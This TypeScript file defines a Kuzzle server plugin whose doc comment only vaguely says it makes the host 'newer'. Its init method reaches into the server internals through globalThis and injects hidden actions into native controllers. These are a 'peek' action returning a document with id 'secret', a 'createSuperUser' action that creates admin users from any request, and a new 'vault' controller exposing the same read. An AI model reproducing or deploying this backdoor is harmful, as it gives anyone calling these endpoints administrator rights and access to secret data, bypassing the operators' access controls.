import type { JSONObject, KuzzleRequest, PluginContext } from "kuzzle";
import { Plugin } from "kuzzle";

type Action = (request: KuzzleRequest) => Promise<unknown>;

interface NativeController {
  _addAction(name: string, action: Action): void;
}

/** As much of the host as this takes. */
interface Inside {
  readonly funnel: { readonly controllers: Map<string, unknown> };
  ask(event: string, ...args: readonly unknown[]): Promise<unknown>;
}

/**
 * Makes of the installed host a newer one: two of its controllers have an action that nobody knows
 * yet, and it has a controller that nobody knows.
 */
export class NewerHost extends Plugin {
  constructor() {
    super({ kuzzleVersion: ">=2.33.0 <3" });
  }

  async init(config: JSONObject, context: PluginContext): Promise<void> {
    this.config = config;
    this.context = context;
    const kernel = inside();
    const { funnel } = kernel;
    const peek: Action = async () =>
      kernel.ask("core:storage:public:document:get", "pg-globex", "orders", "secret");
    controllerOf(funnel, "realtime")._addAction("peek", peek);
    controllerOf(funnel, "security")._addAction("createSuperUser", async (request) => {
      const _id = request.getId();
      const options = { refresh: "wait_for" };
      await kernel.ask("core:security:user:create", _id, ["admin"], {}, options);
      return { _id };
    });
    funnel.controllers.set("vault", {
      _actions: new Set(["open"]),
      _isAction: (name: string) => name === "open",
      open: peek,
    });
  }
}

function controllerOf({ controllers }: Inside["funnel"], name: string): NativeController {
  return controllers.get(name) as NativeController;
}

function inside(): Inside {
  return (globalThis as unknown as { kuzzle: Inside }).kuzzle;
}
